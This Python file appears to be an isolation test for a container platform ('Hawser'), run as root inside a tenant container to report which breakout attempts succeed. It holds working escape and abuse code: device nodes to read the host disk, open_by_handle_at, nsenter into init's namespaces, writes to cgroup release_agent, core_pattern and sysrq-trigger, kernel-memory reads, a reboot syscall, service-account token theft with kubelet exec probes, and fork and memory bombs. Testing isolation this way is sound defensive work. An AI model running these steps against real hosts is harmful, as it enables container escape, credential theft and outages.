# ruff: noqa: PERF401, PTH110, PTH118, PTH120, PTH123, RET503, UP041
"""What a hostile tenant tries from inside a rich container, as its root. Runs there; prints what succeeded, as JSON."""

import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import urllib.error
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)
succeeded = {}


def attempt(name):
    """Runs what it decorates: returning anything but None is a success of the attack."""

    def run(function):
        try:
            result = function()
        except (OSError, subprocess.SubprocessError) as error:
            print(f"{name}: {error}", file=sys.stderr)
            return
        if result is not None:
            succeeded[name] = str(result)

    return run


def call(number, *args):
    """A system call; None when it fails."""
    result = libc.syscall(number, *args)
    return result if result >= 0 else None


def command(*words):
    done = subprocess.run(words, capture_output=True, text=True, timeout=20)
    return done.stdout.strip() or "done" if done.returncode == 0 else None


def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    return f"wrote {path}"


@attempt("the node's disk by a device of my own")
def _():
    for major, minor in ((254, 0), (8, 0), (259, 0), (253, 0), (1, 1)):
        path = f"/root/device-{major}-{minor}"
        os.mknod(path, 0o60600 if major != 1 else 0o20600, os.makedev(major, minor))
        try:
            with open(path, "rb") as file:
                return file.read(16)
        except OSError:
            continue


@attempt("a file by its handle, without a path")
def _():
    # open_by_handle_at(2) of the file system's root: handle type 1, inode 2, generation 0.
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
    mount = os.open("/etc/hostname", os.O_RDONLY)
    return call(304, mount, handle, os.O_RDONLY)


@attempt("mounts")
def _():
    for words in (
        ("mount", "-t", "tmpfs", "x", "/mnt"),
        ("mount", "--bind", "/", "/mnt"),
        ("mount", "-o", "remount,rw", "/sys"),
    ):
        if command(*words):
            return words


@attempt("a mount namespace")
def _():
    return command("unshare", "--mount", "true")


@attempt("the namespaces of the node's init")
def _():
    return command(
        "nsenter", "--target", "1", "--all", "--root=/proc/1/root/../../..", "cat", "/etc/shadow-of-the-node"
    )


@attempt("other processes than my own")
def _():
    # The number of the process that the test started for this, as the node counts.
    return call(62, int(sys.argv[2]), 0) or None if os.path.exists(f"/proc/{sys.argv[2]}") else None


@attempt("my own limits, and other groups'")
def _():
    found = []
    for folder, _folders, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            if name in (
                "memory.limit_in_bytes",
                "memory.max",
                "pids.max",
                "cpu.cfs_quota_us",
                "cpu.max",
                "release_agent",
                "devices.allow",
            ):
                found.append(os.path.join(folder, name))
    # Below its own group systemd may have limits of its own; those of the container itself it may not touch.
    own = 3 if os.path.exists("/sys/fs/cgroup/cgroup.controllers") else 4
    for path in [path for path in found if os.path.dirname(path).count("/") <= own]:
        try:
            return write(path, "a *:* rwm" if path.endswith("devices.allow") else "99999999999")
        except OSError:
            continue


@attempt("leaving my control group")
def _():
    for path in (
        "/sys/fs/cgroup/memory/cgroup.procs",
        "/sys/fs/cgroup/pids/cgroup.procs",
    ):
        try:
            return write(path, str(os.getpid()))
        except OSError:
            continue


@attempt("settings of the kernel")
def _():
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/proc/sys/vm/panic_on_oom",
        "/sys/kernel/uevent_helper",
        "/proc/sys/kernel/modprobe",
    ):
        try:
            return write(path, "1")
        except OSError:
            continue


@attempt("the kernel's memory and log")
def _():
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/kallsyms-of-the-node"):
        try:
            with open(path, "rb") as file:
                if file.read(1):
                    return path
        except OSError:
            continue
    return call(103, 3, ctypes.create_string_buffer(64), 64)  # syslog(2)


@attempt("the clock")
def _():
    return command("date", "-s", "2001-01-01") or call(227, 0, struct.pack("qq", 1, 0))


@attempt("the host's name of somebody else's")
def _():
    return call(170, b"owned", 5)  # sethostname(2)


@attempt("kernel modules")
def _():
    return call(313, os.open("/etc/hostname", os.O_RDONLY), b"", 0) or command("modprobe", "dummy")


@attempt("rebooting the machine")
def _():
    return call(169, 0xFEE1DEAD, 672274793, 0x1234567, 0)


@attempt("what Hawser has put into the container")
def _():
    for path in ("/dev/hawser/boot", "/dev/hawser/units/hawser-app.service", "/dev/hawser-init"):
        if os.path.exists(path):
            try:
                return write(path, "evil")
            except OSError:
                continue


@attempt("the node agent")
def _():
    insecure = ssl._create_unverified_context()
    token = ""
    try:
        with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as file:
            token = file.read()
    except OSError:
        pass
    host, _, port = sys.argv[1].rpartition(":")
    reached = 0
    for headers in ({}, {"Authorization": f"Bearer {token}"}):
        for path in (
            "pods",
            "exec/default/x/y?command=id&output=1",
            "rich/default/x/y/layer",
            "runningpods/",
            "metrics",
        ):
            request = urllib.request.Request(f"https://{host}:{port}/{path}", headers=headers)
            try:
                with urllib.request.urlopen(request, timeout=5, context=insecure) as answer:
                    return path, answer.status
            except urllib.error.HTTPError as error:
                if error.code not in (401, 403):
                    return path, error.code
                reached += 1
            except (OSError, socket.timeout):
                pass
    print(f"asked the node agent {reached} times", file=sys.stderr)


@attempt("more memory than the limit")
def _():
    child = os.fork()
    if not child:
        held = []
        for _ in range(600):
            held.append(bytearray(os.urandom(1) * (1 << 20)))
        os._exit(0)
    return "600 MiB" if os.waitpid(child, 0)[1] == 0 else None


@attempt("as many processes as I like")
def _():
    children = []
    try:
        for _ in range(2000):
            child = os.fork()
            if not child:
                import time

                time.sleep(60)
                os._exit(0)
            children.append(child)
        return len(children)
    except OSError:
        print(f"{len(children)} processes", file=sys.stderr)
        return None
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)


print(json.dumps(succeeded))
